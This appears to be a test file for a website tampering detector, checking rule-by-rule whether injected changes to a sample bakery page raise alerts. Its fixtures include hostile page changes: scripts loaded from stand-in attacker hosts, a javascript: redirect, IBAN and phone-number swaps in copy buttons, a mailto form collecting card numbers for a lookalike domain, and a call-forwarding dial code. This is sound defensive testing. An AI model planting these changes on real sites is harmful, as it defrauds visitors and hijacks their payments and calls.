/**
 * The rules of round 15 (tuned on fresh14 after its first look), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, ex, page, samples, URL_, verdictOf } from "../support/pages.js"

describe("round 15: where the page sends visitors' browsers", () => {
  it("speculation rules or a prerender hint loading another host's pages alert; the site's own pages do not", () => {
    const rules = (urls: ReadonlyArray<string>) => `<script type="speculationrules">${JSON.stringify({ prerender: [{ source: "list", urls, eagerness: "immediate" }] })}</script>`
    expect(breaches(verdictOf(page({ seed: 4, head: rules(["https://deal-offers.example.top/r/8fk2"]) })))).toContain("destinations/background_page_new_domain")
    expect(breaches(verdictOf(page({ seed: 4, head: `<link rel="prefetch" href="https://deal-offers.example.top/lp/x1">` })))).toContain("destinations/background_page_new_domain")
    expect(verdictOf(page({ seed: 4, head: rules(["/bread", "/cakes"]) })).alert).toBe(false)
    // (a hint for a file the page will use is not a page loaded behind the visitor's back)
    expect(ex.extract(page({ head: `<link rel="prefetch" href="https://fonts.gstatic.example/x.woff2">` }), URL_).refs.some((r) => r.kind === "frame")).toBe(false)
  })

  it("a referrer policy loosened to unsafe-url with something new from another host alerts; a tightened one does not", () => {
    const pixel = `<img src="https://px-stat.example.top/1x1.gif" width="1" height="1" alt="">`
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta name="referrer" content="unsafe-url">`, body: pixel })))).toContain("destinations/referrer_leak")
    expect(breaches(verdictOf(page({ seed: 4, body: pixel.replace("<img ", `<img referrerpolicy="unsafe-url" `) })))).toContain("destinations/referrer_leak")
    expect(checks(verdictOf(page({ seed: 4, head: `<meta name="referrer" content="strict-origin-when-cross-origin">`, body: pixel })))).not.toContain("destinations/referrer_leak")
  })

  it("a row of links each named as its site is a directory, not a call to go somewhere", () => {
    const bar = (names: ReadonlyArray<string>) => `<div class="network-bar" style="background:#222;color:#ccc">Part of Coastal Media: ${names.map((n) => `<a href="https://www.${n.toLowerCase().replace(/ /g, "")}.co.uk/">${n}</a>`).join(" | ")}</div>`
    expect(breaches(verdictOf(page({ seed: 4, top: bar(["Whitby Gazette", "Scarborough News", "Malton Mercury"]) })))).not.toContain("destinations/link_prominent")
    const notice = `<div style="background:#c00;color:#fff">We have moved! <a href="https://harbour-bakery-new.example.top/">Order here</a></div>`
    expect(breaches(verdictOf(page({ seed: 4, top: notice })))).toContain("destinations/link_prominent")
  })

  it("one link out of an advert for a vice alerts; the same link beside honest words does not", () => {
    const advert = (words: string) => `<div class="post"><h3>${words}</h3><p><a href="https://healing-drops.example.top/kit" style="background:#0277bd;color:#fff">Get the kit</a></p></div>`
    expect(breaches(verdictOf(page({ seed: 4, body: advert("Miracle Mineral Solution: healed in 21 days with chlorine dioxide") })))).toContain("destinations/spam_links")
    expect(checks(verdictOf(page({ seed: 4, body: advert("Our new sourdough starter kit, with a jar and a guide") })))).not.toContain("destinations/spam_links")
  })
})

describe("round 15: references the extractor did not read", () => {
  it("an SVG script or image named by href or xlink:href loads from where it names", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<svg><script xlink:href="https://cdn-stat.example.top/x.js"></script></svg>` })))).toContain("destinations/script_new_domain")
    expect(breaches(verdictOf(page({ seed: 4, body: `<svg width="600" height="400"><image href="https://imgs.example.top/banner.png" width="600" height="400"/></svg>` })))).toContain("destinations/image_new_domain")
    // (an icon drawn from the page's own sprite loads nothing new)
    expect(verdictOf(page({ seed: 4, body: `<svg width="16" height="16"><use xlink:href="/static/icons.svg#cart"></use><image href="/static/logo.svg" width="16" height="16"/></svg>` })).alert).toBe(false)
  })

  it("a frame whose address is a data: URL of HTML is read as the page's own document", () => {
    const doc = Buffer.from(`<script src="https://cdn-stat.example.top/x.js"></script>`).toString("base64")
    expect(breaches(verdictOf(page({ seed: 4, body: `<iframe src="data:text/html;base64,${doc}"></iframe>` })))).toContain("destinations/script_new_domain")
  })

  it("a meta refresh to a javascript: URL goes where its code sends the visitor", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta http-equiv="refresh" content="0;url=javascript:location='https://claim-prize.example.top/'">` })))).toContain("destinations/redirect")
  })
})

describe("round 15: what a visitor sees", () => {
  it("CSS that shrinks, clips or blurs the page's content past reading hides it; a blurred preview image does not", () => {
    for (const css of ["main{zoom:0.01}", "main{clip-path:inset(100%)}", "main{filter:blur(8px)}", "body{transform:scale(0)}"]) {
      expect(breaches(verdictOf(page({ seed: 4, head: `<style>${css}</style>` })))).toContain("appearance/content_hidden")
    }
    expect(verdictOf(page({ seed: 4, head: `<style>.modal-open main{backdrop-filter:blur(8px)}.cw-blur{filter:blur(20px)}</style>` })).alert).toBe(false)
  })

  it("new link-preview text that signs a defacement alerts; an SEO plugin's new preview text does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta property="og:title" content="Hacked by ZeroSec">` })))).toContain("visible_text/meta_replaced")
    expect(verdictOf(page({ seed: 4, head: `<meta property="og:title" content="Harbour Bakery – sourdough in Whitby"><meta property="og:description" content="Bread, pastries and cakes baked on the harbour every morning.">` })).alert).toBe(false)
  })
})

describe("round 15: identifiers", () => {
  it("a copy button that copies a number the page does not show alerts; one that copies the shown number does not", () => {
    const base = baselineOf(samples((seed) => page({ seed, body: `<p>Bank transfer: IBAN GB29 NWBK 6016 1331 9268 19</p>` })))
    const copy = (iban: string) => page({ seed: 4, body: `<p>Bank transfer: IBAN GB29 NWBK 6016 1331 9268 19 <button type="button" data-clipboard-text="${iban}">Copy</button></p>` })
    expect(breaches(verdictOf(copy("GB94BARC10201530093459"), base))).toContain("identifiers/copy_mismatch")
    expect(verdictOf(copy("GB29NWBK60161331926819"), base).alert).toBe(false)
    // (the literal a click handler writes to the clipboard is read the same way)
    const handler = page({ seed: 4, body: `<p>Call 01947 600 123 <button onclick="navigator.clipboard.writeText('07700 900 461')">Copy</button></p>` })
    expect(breaches(verdictOf(handler))).toContain("identifiers/copy_mismatch")
    // (a bare number copied is a number to dial, whatever its format)
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Teléfono: 612 27 86 29 <button data-clipboard-text="612 27 86 81">Copiar</button></p>` })))).toContain("identifiers/copy_mismatch")
    // (a value the page carries in a hidden part of it, a details panel, is the page's own)
    const panel = (seed: number, extra: string) => page({ seed, body: `<div hidden><p>Bank transfer: IBAN GB29 NWBK 6016 1331 9268 19</p></div>${extra}` })
    expect(verdictOf(panel(4, `<button data-copy="GB29 NWBK 6016 1331 9268 19">Copy our IBAN</button>`), baselineOf(samples((seed) => panel(seed, "")))).alert).toBe(false)
  })

  it("a form that mails what visitors type to an address the page never gave alerts", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<form action="mailto:orders@harbour-bakery.example.top" method="post"><input name="card"><button>Pay</button></form>` })))).toContain("identifiers/form_recipient_added")
    expect(checks(verdictOf(page({ seed: 4, body: `<form action="mailto:orders@harbourbakery.co.uk" method="post"><input name="cake"><button>Order</button></form>` })))).not.toContain("identifiers/form_recipient_added")
  })

  it("an address written against harvesters and a messenger id are identifiers too", () => {
    const swap = (a: string, b: string) => verdictOf(page({ seed: 4, body: `<p>${b}</p>` }), baselineOf(samples((seed) => page({ seed, body: `<p>${a}</p>` }))))
    expect(swap("Press: media [at] harbourbakery [dot] co [dot] uk", "Press: media [at] harbour-bakery-uk [dot] com").alert).toBe(true)
    expect(breaches(swap("WeChat ID: harbourbakery", "WeChat ID: hb_support88"))).toContain("identifiers/social_changed")
    expect(breaches(swap("Skype: harbour.bakery", "Skype: harbour.bakery.help"))).toContain("identifiers/social_changed")
    expect(swap("Press: media [at] harbourbakery [dot] co [dot] uk", "Press: media (at) harbourbakery (dot) co (dot) uk").alert).toBe(false)
  })

  it("a call-forwarding code with a number in it alerts; an operator's payment menu code does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Missed our courier? Dial <a href="tel:**21*+447700900461%23">**21*+447700900461#</a> so they can reach you.</p>` })))).toContain("identifiers/call_forwarding")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Missed our courier? Dial *401*07700900461 from your phone.</p>`.replace("07700900461", "07700900461#") })))).toContain("identifiers/call_forwarding")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Pay by mobile money: dial *165# and choose Pay, merchant 402113.</p>` })))).not.toContain("identifiers/call_forwarding")
  })
})

describe("round 15: spam words", () => {
  it("links selling game cheats or abortion pills are spam; a cheat sheet is not", () => {
    const links = (a: string, b: string) => `<ul><li><a href="https://shop-one.example.top/a">${a}</a></li><li><a href="https://shop-two.example.top/b">${b}</a></li></ul>`
    expect(breaches(verdictOf(page({ seed: 4, body: links("Valorant aimbot", "CS2 wallhack") })))).toContain("destinations/spam_links")
    expect(breaches(verdictOf(page({ seed: 4, body: links("jual obat aborsi", "cytotec asli") })))).toContain("destinations/spam_links")
    expect(checks(verdictOf(page({ seed: 4, body: links("Sourdough cheat sheet", "Baking cheat sheet") })))).not.toContain("destinations/spam_links")
  })
})
